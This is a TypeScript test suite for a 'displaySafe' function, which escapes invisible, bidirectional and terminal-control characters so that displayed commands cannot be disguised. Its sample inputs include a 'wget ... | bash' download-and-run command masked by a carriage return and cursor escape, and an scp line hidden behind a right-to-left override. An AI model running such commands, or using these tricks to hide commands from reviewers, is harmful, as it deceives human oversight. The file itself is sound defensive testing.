import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { argsDigest } from "../src/args-digest.js";
import { displaySafe } from "../src/display-safe.js";

const FORBIDDEN =
  /\u{34f}|[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Zl}\p{Zp}\u{115f}\u{1160}\u{2800}\u{3164}\u{ffa0}\u{a0}\u{1680}\u{2000}-\u{200a}\u{202f}\u{205f}\u{3000}]|[\u{fe00}-\u{fe0f}]|[\u{e0000}-\u{e0fff}]/u;

/** Reads the form back, as a person would who knows the rule. */
function read(shown: string): string {
  return shown.replace(
    /(\\+)(n|r|t|u\{([0-9a-f]+)\}|u\{)?/gu,
    (whole, run: string, form?: string, hex?: string) => {
      if (form === undefined) return whole;
      const literal = "\\".repeat(Math.floor(run.length / 2));
      if (run.length % 2 === 0) return literal + form;
      if (hex !== undefined) return literal + String.fromCodePoint(Number.parseInt(hex, 16));
      return literal + ({ n: "\n", r: "\r", t: "\t" }[form] ?? "");
    },
  );
}

/** Text of characters that are awkward beside each other. */
const awkward = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        "\\",
        "\\\\",
        "n",
        "r",
        "t",
        "u",
        "u{",
        "{",
        "}",
        "202e",
        "\\u{202e}",
        " ",
        "a",
        "é",
        "e\u0301",
      ),
      fc.constantFrom(
        "\n",
        "\r",
        "\t",
        "\u202e",
        "\u001b",
        "\u0301",
        "\u0338",
        "\ud83d",
        "\ude00",
        "😀",
        "\u{e0041}",
      ),
      fc.string({ unit: "binary", maxLength: 3 }),
    ),
    { maxLength: 60 },
  )
  .map((parts) => parts.join(""));

describe("displaySafe", () => {
  it("[CASE-200] spells out invisible, reordering and control characters, and says so", () => {
    const input = { command: "scp k h: \u202egnitset\u202c # \u200b\u2066\ufeff\u00ad\u2028\udb40\udc41" };
    const digest = argsDigest(input);
    expect(displaySafe(input.command)).toEqual({
      text: "scp k h: \\u{202e}gnitset\\u{202c} # \\u{200b}\\u{2066}\\u{feff}\\u{00ad}\\u{2028}\\u{e0041}",
      escaped: true,
    });
    expect(argsDigest(input)).toBe(digest);
    expect(displaySafe("\ue000\u{f0000}\u{10fffd}").text).toBe("\\u{e000}\\u{f0000}\\u{10fffd}");
    expect(displaySafe("scp k h: testing")).toEqual({ text: "scp k h: testing", escaped: false });
  });

  it("[CASE-201] spells out carriage returns and terminal sequences in any field", () => {
    expect(displaySafe("shell\u001b[2K")).toEqual({ text: "shell\\u{001b}[2K", escaped: true });
    expect(displaySafe("wget -O- http://e.invalid|bash\r\u001b[1Apwd")).toEqual({
      text: "wget -O- http://e.invalid|bash\\r\\u{001b}[1Apwd",
      escaped: true,
    });
    expect(displaySafe("a\u009b2Kb\u0007\u0008\u007f").text).toBe("a\\u{009b}2Kb\\u{0007}\\u{0008}\\u{007f}");
  });

  it.each([
    ["a new line", "a\nb\tc", "a\\nb\\tc"],
    ["the Hangul fillers", "\u115f\u1160\u3164\uffa0", "\\u{115f}\\u{1160}\\u{3164}\\u{ffa0}"],
    ["the braille blank", "a\u2800b", "a\\u{2800}b"],
    [
      "the grapheme joiner and variation selectors",
      "a\u034f\ufe0f\u{e0100}",
      "a\\u{034f}\\u{fe0f}\\u{e0100}",
    ],
    ["spaces that are not U+0020", "a\u00a0\u2003\u3000b", "a\\u{00a0}\\u{2003}\\u{3000}b"],
    ["a lone surrogate", "a\ud800b\udc00", "a\\u{d800}b\\u{dc00}"],
    ["a non-character", "\uffff\u{1fffe}", "\\u{ffff}\\u{1fffe}"],
  ])("spells out %s", (_, text, shown) => {
    expect(displaySafe(text)).toEqual({ text: shown, escaped: true });
  });

  it.each([
    "",
    "ls -la",
    "C:\\dir\\file",
    "grep '\\.ts$'",
    "naïve café 日本語 ไม้ हिन्दी 👍🏽",
    "e\u0301",
    "end\\",
  ])("shows %j as it is", (text) => {
    expect(displaySafe(text)).toEqual({ text, escaped: false });
  });

  it("doubles backslashes that would read as an escape, and only those", () => {
    expect(displaySafe("\\u{202e}")).toEqual({ text: "\\\\u{202e}", escaped: true });
    expect(displaySafe("C:\\new\\dir")).toEqual({ text: "C:\\\\new\\dir", escaped: true });
    expect(displaySafe("\\\\n").text).toBe("\\\\\\\\n");
    expect(displaySafe("\\\n").text).toBe("\\\\\\n");
    expect(displaySafe("\\u202e")).toEqual({ text: "\\u202e", escaped: false });
  });

  it("never shows two different texts alike: the form reads back", () => {
    fc.assert(
      fc.property(awkward, (text) => {
        expect(read(displaySafe(text, { maxLength: Number.POSITIVE_INFINITY }).text)).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it("shows no character of the forbidden classes, keeps to its length and tells whether it changed anything", () => {
    fc.assert(
      fc.property(awkward, fc.integer({ min: 32, max: 80 }), (text, maxLength) => {
        const shown = displaySafe(text, { maxLength });
        expect(shown.text).not.toMatch(FORBIDDEN);
        expect([...shown.text].length).toBeLessThanOrEqual(maxLength);
        expect(shown.escaped).toBe(shown.text !== text);
      }),
      { numRuns: 2000 },
    );
  });

  it("shows no forbidden character out of all there are", () => {
    for (let point = 0; point <= 0x10ffff; point += 1) {
      const character = String.fromCodePoint(point);
      if (FORBIDDEN.test(character) && FORBIDDEN.test(displaySafe(`a${character}`).text)) {
        throw new Error(`U+${point.toString(16)} is shown as it is`);
      }
    }
    // A million characters, on a machine that may have other work.
  }, 120_000);

  describe("combining marks", () => {
    it("shows four on one letter and spells out the rest", () => {
      const mark = "\u0301";
      expect(displaySafe(`a${mark.repeat(4)}b`).escaped).toBe(false);
      expect(displaySafe(`a${mark.repeat(6)}b`).text).toBe(`a${mark.repeat(4)}${"\\u{0301}".repeat(2)}b`);
    });

    it("spells one out that has no letter: at the begin, after a space, after an escape", () => {
      expect(displaySafe("\u0338a").text).toBe("\\u{0338}a");
      expect(displaySafe("a \u0338").text).toBe("a \\u{0338}");
      expect(displaySafe("a\n\u0338\u0338").text).toBe("a\\n\\u{0338}\\u{0338}");
    });
  });

  describe("long text", () => {
    it("shows begin, end and how many code points are left out", () => {
      const { text, escaped } = displaySafe(`begin${"x".repeat(10_000)}end`);
      const cut = /^(begin(x+))\\u\{… (\d+) hidden …\}((x+)end)$/.exec(text);
      expect(cut).not.toBeNull();
      const [, head = "", , count = "", tail = ""] = cut ?? [];
      expect(head.length + Number(count) + tail.length).toBe(10_008);
      expect(text.length).toBeLessThanOrEqual(2000);
      expect(text.length).toBeGreaterThan(1980);
      expect(escaped).toBe(true);
    });

    it("shows text of exactly the length whole", () => {
      expect(displaySafe("x".repeat(2000)).escaped).toBe(false);
      expect(displaySafe("😀".repeat(2000)).escaped).toBe(false);
      expect(displaySafe("x".repeat(2001)).escaped).toBe(true);
    });

    it("cuts no pair and no escape apart, and counts what it leaves out", () => {
      fc.assert(
        fc.property(
          fc.array(fc.constantFrom("😀", "a", "\n", "\u202e", "\\", "e\u0301"), {
            minLength: 60,
            maxLength: 300,
          }),
          fc.integer({ min: 32, max: 64 }),
          (parts, maxLength) => {
            const text = parts.join("");
            const shown = displaySafe(text, { maxLength }).text;
            const cut = /\\u\{… (\d+) hidden …\}/u.exec(shown);
            if (cut === null) throw new Error("not cut");
            const head = read(shown.slice(0, cut.index));
            const tail = read(shown.slice(cut.index + cut[0].length));
            expect(text.startsWith(head)).toBe(true);
            expect(text.endsWith(tail)).toBe(true);
            expect([...head].length + Number(cut[1]) + [...tail].length).toBe([...text].length);
          },
        ),
        { numRuns: 1000 },
      );
    });

    it("cannot be told by the text itself that something was left out", () => {
      expect(displaySafe("rm\\u{… 5 hidden …}").text).toBe("rm\\\\u{… 5 hidden …}");
      expect(displaySafe(`${"\\".repeat(5000)}n`, { maxLength: 40 }).text).toMatch(/^\\u\{… \d+ hidden …\}/);
    });

    it("leaves no mark on the sign of the cut", () => {
      const { text } = displaySafe(`${"x".repeat(100)}e${"\u0301".repeat(3)}ab`, { maxLength: 32 });
      expect(text).not.toMatch(/\}\p{M}/u);
    });

    it.each([0, -1, Number.NaN, 1])("takes a length of %s for 32", (maxLength) => {
      expect([...displaySafe("x".repeat(100), { maxLength }).text].length).toBeLessThanOrEqual(32);
      expect(displaySafe("x".repeat(32), { maxLength }).escaped).toBe(false);
    });

    it.each(["\\", "\u0301", "\u202e", "\ud800", "x", "\\n"])(
      "takes linear time for megabytes of %j",
      (unit) => {
        const { text } = displaySafe(unit.repeat(2_000_000));
        expect([...text].length).toBeLessThanOrEqual(2000);
      },
    );
  });
});
